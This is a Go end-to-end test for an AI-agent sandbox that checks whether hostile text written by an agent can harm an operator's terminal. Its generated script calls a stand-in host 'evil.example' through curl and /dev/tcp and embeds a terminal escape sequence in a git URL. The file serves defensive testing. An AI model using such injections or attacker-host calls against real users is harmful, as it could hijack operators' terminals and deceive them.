package e2e

import (
	"encoding/json"
	"fmt"
	"maps"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bot-bottle/bot-bottle/internal/prove/inside"
	"github.com/bot-bottle/bot-bottle/test/emulator"
	"github.com/bot-bottle/bot-bottle/test/standin"
)

// quote makes a word of the shell's out of any text.
func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

// Attacks H1, H2, H3, on all that our verbs print of a bottle: the agent writes to the operator's
// terminal in its reasons and questions, in hosts and paths, in the names of branches, files and
// authors, and in the messages of its commits.
func TestAttackH1_NoVerbHarmsATerminal(t *testing.T) {
	t.Parallel()
	h := openGit(t, standin.Options{}, `refs: ["refs/heads/agent/**"], mode: hold`)
	here := filepath.Join(t.TempDir(), "widget")
	if out, err := gitCommand(t.Context(), "clone", "-q", h.upstream, here).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	c := h.Command(t.Context(), "start", "-y", "--detach", "--rm", "--cwd", "committer")
	c.Dir = here
	out, err := c.Output()
	if err != nil {
		t.Fatal(err)
	}
	identity := strings.TrimSpace(string(out))
	h.removeAtEnd(identity)
	h.sh(0, identity, h.hostileScript(t))

	all := h.run(0, "", "requests", "--json").Stdout
	var waiting []struct{ ID, Kind string }
	if err := json.Unmarshal([]byte(all), &waiting); err != nil || len(waiting) < 3 {
		t.Fatalf("the bottle asked %d times: %v", len(waiting), err)
	}
	printed := map[string]string{"requests --json": all}
	at := func(args ...string) {
		c := h.Command(t.Context(), args...)
		c.Dir = here
		out, _ := c.CombinedOutput() // what fails prints an error
		printed[strings.Join(args, " ")] = string(out)
	}
	for _, w := range waiting {
		at("approve", w.ID)
		if w.Kind == "push" {
			at("requests", "--diff", w.ID)
		}
	}
	at("reject", waiting[0].ID, "--reason", "no")
	at("requests", "--all")
	at("egress", identity)
	at("logs", identity)
	at("logs", identity, "--json")
	at("logs", identity, "--verify")
	at("list")
	at("list", "all")
	at("pull", identity)
	at("pull", identity, "--json")
	at("stop", identity)
	for what, text := range printed {
		s := emulator.New(4000)
		s.Show(text)
		if harm := s.Harm(""); len(harm) > 0 {
			t.Errorf("%s: %v\n%.2000q", what, harm[0], text)
		}
	}
}

// hostileScript says everything hostile everywhere that a bottle can say something.
func (h gitHouse) hostileScript(t *testing.T) string {
	t.Helper()
	var b strings.Builder
	b.WriteString("cd /workspace && until test ! -e .git/bot-bottle-checkout; do sleep 0.1; done\ngit checkout -q -b agent/fix\n")
	hostile := inside.Hostile()
	for i, name := range slices.Sorted(maps.Keys(hostile)) {
		text := strings.ReplaceAll(hostile[name], "\x00", "")
		if len(text) > 200 && name != "long" {
			text = text[:200]
		}
		ask := map[string]any{"host": fmt.Sprintf("h%d.example", i), "why": "because " + text, "paths": []string{"/x"}}
		tool := "request_egress"
		if i%4 == 0 {
			tool, ask = "ask_operator", map[string]any{"question": fmt.Sprint(i, text), "choices": []string{text, "no " + text}}
		}
		body, err := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": map[string]any{"name": tool, "arguments": ask}})
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&b, "while curl -s -m 60 -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -d %s http://127.0.0.1:7717/mcp | grep -q too_many; do :; done\n", quote(string(body)))
		fmt.Fprintf(&b, "printf '%%s' %s > /tmp/m; touch -- %s 2>/dev/null; git add -A; git commit -q --allow-empty -F /tmp/m\n", quote("x "+text), quote("file "+strings.ReplaceAll(text, "/", "_")))
		fmt.Fprintf(&b, "git branch -- %s 2>/dev/null\n", quote("agent/x"+text))
		fmt.Fprintf(&b, "curl -s -m 20 -o /dev/null --path-as-is -A %s %s\n", quote(text), quote("http://evil.example/"+text))
		fmt.Fprintf(&b, "printf '%%s' %s | timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -c 200 <&3 >/dev/null'\n", quote("GET http://evil"+text+".example/"+text+" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"))
	}
	b.WriteString("git push origin agent/fix 2>/dev/null; git ls-remote " + quote("http://127.0.0.1:9418/x/\x1b]0;owned\x07") + " 2>/dev/null; true\n")
	return b.String()
}
